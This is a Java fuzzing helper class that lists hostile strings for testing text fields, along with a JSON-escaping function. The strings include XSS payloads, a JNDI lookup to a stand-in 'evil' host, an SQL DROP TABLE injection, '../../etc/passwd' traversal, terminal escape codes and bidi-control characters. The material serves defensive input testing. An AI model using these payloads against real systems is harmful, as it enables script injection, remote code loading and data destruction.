package io.github.xxgk.fuzz;

import java.util.ArrayList;
import java.util.List;

/** Hostile text for every text field: markup and script injection, Markdown structure, control and bidi characters, odd Unicode, huge strings. */
final class Payloads {

    private Payloads() {
    }

    private static final String[] BASE = {
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>",
        "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=//evil></iframe>", "&lt;script&gt;", "&#x3C;script&#x3E;", "<!-- --><script>x</script>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<![CDATA[<script>]]>", "</td></tr></table><h1>x</h1>",
        "<base href=//evil/>", "<meta http-equiv=refresh content=0;url=//evil>", "<style>*{display:none}</style>",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<form action=//evil><input></form>",
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<object data=//evil></object>",
        "[x](javascript:alert(1))", "![x](//evil/x.png)", "| a | b |\n|---|---|", "# 标题", "\n# heading\n", "*强调*", "`code`",
        "```\nblock\n```", "> quote", "- item", "1. item", "<http://evil>", "\\", "\\|", "***", "---", "~~x~~", "[^1]",
        "{{7*7}}", "${jndi:ldap://evil/a}", "%s%n%x", "'; DROP TABLE reports; --", "../../etc/passwd",
        "\u001b[2J\u001b[H", "\u001b]0;pwned\u0007", "\u009b31m", "\u0000", "\u0007\u0008\u000b\u000c", "\r\n", "\r", "\t",
        "\u007f", "\u0085", "\u202e右到左", "\u202d\u202c", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c",
        "\u200b\u200c\u200d\ufeff", "\u2028\u2029", "\ud83d\ude00", "\udbff\udfff", "\ud800", "\udfff", "\ufffd\uffff",
        "e\u0301\u0301\u0301", "Ｓｃｒｉｐｔ", "〈script〉", "＜script＞", "/", "", " ", "null", "0", "-1",
    };

    /** All payloads: the base list, then a few combined and huge ones. */
    static final List<String> ALL;

    static {
        List<String> all = new ArrayList<>(List.of(BASE));
        all.add("某市统计局" + "<script>".repeat(100));
        all.add("长".repeat(100_000));
        all.add("\u001b".repeat(1_000));
        all.add("<".repeat(10_000));
        all.add("x\ny\nz".repeat(1_000));
        all.add("\u202e".repeat(100) + "<b>");
        ALL = List.copyOf(all);
    }

    /** A payload as the inside of a JSON string literal. */
    static String jsonEscaped(String s) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '"' || c == '\\') {
                sb.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c)) {
                sb.append(String.format(java.util.Locale.ROOT, "\\u%04x", (int) c));
            } else {
                sb.append(c);
            }
        }
        return sb.toString();
    }
}
